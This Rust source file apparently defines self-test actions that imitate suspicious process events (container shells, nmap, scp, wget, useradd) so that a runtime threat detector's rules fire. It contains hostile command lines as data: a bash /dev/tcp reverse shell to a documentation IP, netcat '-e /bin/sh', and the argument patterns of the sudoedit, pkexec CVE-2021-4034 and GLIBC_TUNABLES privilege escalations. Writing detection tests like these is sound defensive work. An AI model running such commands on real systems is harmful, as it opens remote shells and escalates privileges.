//! Actions that are programs of a certain name, run by somebody, with arguments that tell. The programs do nothing.

use crate::selftest::action::Action;

const SHELL: &str = "/bin/sh";

pub(super) const SHELLS: &[Action] = &[
    Action::run(
        "Terminal shell in container",
        "starts sh on a terminal",
        SHELL,
        &[],
    )
    .on_terminal()
    .in_container(),
    Action::run(
        "Shell started by exec in container",
        "a process of the name runc starts sh",
        SHELL,
        &[],
    )
    .by("runc")
    .in_container(),
    Action::run(
        "Web Server Spawned Shell",
        "a process of the name nginx starts sh",
        SHELL,
        &["-c", "true"],
    )
    .by("nginx"),
    Action::run(
        "Run shell untrusted",
        "a process of the name mysqld starts sh",
        SHELL,
        &["-c", "true"],
    )
    .by("mysqld"),
    Action::run(
        "Web Server Spawned Suspicious Child Process",
        "a process of the name nginx starts whoami",
        "/usr/bin/whoami",
        &[],
    )
    .by("nginx"),
    Action::run(
        "DB program spawned process",
        "a process of the name mysqld starts another program",
        "/usr/bin/selftest-child",
        &[],
    )
    .by("mysqld"),
    Action::run(
        "Reverse shell command",
        "runs a program of the name bash with `/dev/tcp/` among its arguments",
        "/bin/bash",
        &["-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"],
    ),
    Action::run(
        "System user interactive",
        "the user daemon runs a program on a terminal, started by a process of the name sshd",
        "/usr/bin/selftest-login",
        &[],
    )
    .by("sshd")
    .user(1)
    .on_terminal()
    .on_host(),
];

pub(super) const TOOLS: &[Action] = &[
    Action::run(
        "Launch Package Management Process in Container",
        "runs a program of the name apt",
        "/tmp/apt",
        &["install", "selftest"],
    )
    .in_container(),
    Action::run(
        "Kubernetes Client Tool Launched in Container",
        "runs a program of the name kubectl",
        "/tmp/kubectl",
        &["version"],
    )
    .in_container(),
    Action::run(
        "Launch Suspicious Network Tool in Container",
        "runs a program of the name nmap",
        "/usr/bin/nmap",
        &["--version"],
    )
    .in_container(),
    Action::run(
        "Launch Suspicious Network Tool on Host",
        "runs a program of the name nmap",
        "/usr/bin/nmap",
        &["--version"],
    )
    .on_host(),
    Action::run(
        "Netcat Remote Code Execution in Container",
        "runs a program of the name nc with `-e`",
        "/bin/nc",
        &["-e", "/bin/sh"],
    )
    .in_container(),
    Action::run(
        "Netcat/Socat Remote Code Execution on Host",
        "runs a program of the name nc with `-e`",
        "/bin/nc",
        &["-e", "/bin/sh"],
    )
    .on_host(),
    Action::run(
        "Launch Remote File Copy Tools in Container",
        "runs a program of the name scp",
        "/usr/bin/scp",
        &["a", "b"],
    )
    .in_container(),
    Action::run(
        "Launch Ingress Remote File Copy Tools in Container",
        "runs a program of the name wget",
        "/usr/bin/wget",
        &["http://selftest.invalid/file"],
    )
    .in_container(),
    Action::run(
        "Launch SSH Program in Container",
        "runs a program of the name ssh",
        "/usr/bin/ssh",
        &["selftest.invalid"],
    )
    .in_container(),
    Action::run(
        "Exfiltrating Artifacts via Kubernetes Control Plane",
        "a process of the name runc starts tar",
        "/bin/tar",
        &["cf", "-", "/tmp"],
    )
    .by("runc")
    .in_container(),
    Action::run(
        "Basic Interactive Reconnaissance",
        "runs whoami on a terminal",
        "/usr/bin/whoami",
        &[],
    )
    .on_terminal()
    .in_container(),
    Action::run(
        "Coreutils Run by Hand in Container",
        "runs ls on a terminal",
        "/bin/ls",
        &[],
    )
    .on_terminal()
    .in_container(),
];

pub(super) const USERS: &[Action] = &[
    Action::run(
        "User mgmt binaries",
        "runs a program of the name useradd",
        "/usr/sbin/useradd",
        &["selftest"],
    ),
    Action::run(
        "Launch Login Program in Container",
        "runs a program of the name su",
        "/bin/su",
        &[],
    )
    .in_container(),
    Action::run(
        "Sudo Potential Privilege Escalation",
        "the user nobody runs a program of the name sudoedit as the exploit does",
        "/usr/bin/sudoedit",
        &["-s", "\\"],
    )
    .user(65534),
    Action::run(
        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        "runs a program of the name pkexec without its own name",
        "/usr/bin/pkexec",
        &[],
    )
    .called(""),
    Action::run(
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        "somebody who has logged in runs a program of the name su with GLIBC_TUNABLES set",
        "/bin/su",
        &[],
    )
    .environment(&[("GLIBC_TUNABLES", "glibc.malloc.check=0")])
    .login(1000),
];
